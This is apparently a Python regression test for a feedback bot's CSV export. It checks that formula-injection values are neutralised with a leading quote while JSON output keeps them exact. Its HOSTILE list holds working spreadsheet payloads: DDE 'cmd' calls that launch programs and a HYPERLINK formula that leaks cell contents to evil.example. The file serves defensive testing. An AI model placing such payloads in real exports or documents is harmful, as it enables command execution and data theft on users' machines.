"""Issue 15, hole 9: CSV formula injection. Feedback written as `=cmd|' /C calc'!A0` came out of `feedbot
export` as is, and a spreadsheet opening the CSV ran it. Cells a spreadsheet would evaluate now start with `'`
(OWASP); JSON stays exact, and every other text still round-trips exactly."""

from __future__ import annotations

import csv
import io
import json
import subprocess
import sys

from sqlalchemy import create_engine, insert

from storage.db import sync_url
from storage.models import Feedback, utcnow
from tests.fakes.slack_api import FakeSlack
from tests.fakes.slack_requests import slash_command
from tests.support import TEAM, RunningServer, serve_env

HOSTILE = [
    "=cmd|' /C calc'!A0",
    '+HYPERLINK("https://evil.example/?leak="&A1,"Board deck")',
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
]
# Intake strips leading whitespace, so these can only come from elsewhere (older rows, another writer).
SEEDED = ["\t=1+1", "\r=1+1", "'=1+1"]
HARMLESS = ['Plain words, "quoted", =1+1 inside', "'quoted at the start", "100% ok -> fine", "👩🏽‍💻 =HERE"]


def export(database_url: str, fake_slack: FakeSlack, fmt: str) -> str:
    result = subprocess.run(
        [sys.executable, "-m", "bot", "export", "feedback", "--format", fmt],
        env=serve_env(database_url, fake_slack),
        capture_output=True,
        timeout=60,
        check=True,
    )
    return result.stdout.decode()


def seed(database_url: str, texts: list[str]) -> None:
    engine = create_engine(sync_url(database_url))
    with engine.begin() as connection:
        for n, text in enumerate(texts):
            values = {"platform": "slack", "team_id": TEAM, "user_id": "U0002", "anonymous": False, "text": text}
            connection.execute(
                insert(Feedback).values(**values, status="new", source_key=f"seed:{n}", created_at=utcnow())
            )
    engine.dispose()


async def test_formula_cells_are_neutralised_in_csv_and_exact_in_json(
    server: RunningServer, fake_slack: FakeSlack, database_url: str
) -> None:
    for text in HOSTILE + HARMLESS:
        status, _ = await server.slack(slash_command("/feedback", text))
        assert status == 200
    seed(database_url, SEEDED)
    written = HOSTILE + HARMLESS + SEEDED

    rows = list(csv.DictReader(io.StringIO(export(database_url, fake_slack, "csv"), newline="")))
    texts = [row["text"] for row in rows]

    assert texts[: len(HOSTILE)] == ["'" + text for text in HOSTILE]
    assert texts[len(HOSTILE) : len(HOSTILE) + len(HARMLESS)] == HARMLESS
    assert texts[len(HOSTILE) + len(HARMLESS) :] == ["'\t=1+1", "'\r=1+1", "''=1+1"]
    for cell in (value for row in rows for value in row.values()):
        assert not cell.startswith(("=", "+", "-", "@", "\t", "\r")), cell
    # Documented reversal: one leading quote off where quotes are followed by a formula character.
    assert [_undo(text) for text in texts] == written

    assert [row["text"] for row in json.loads(export(database_url, fake_slack, "json"))] == written


def _undo(cell: str) -> str:
    return cell[1:] if cell.lstrip("'").startswith(("=", "+", "-", "@", "\t", "\r")) and cell.startswith("'") else cell
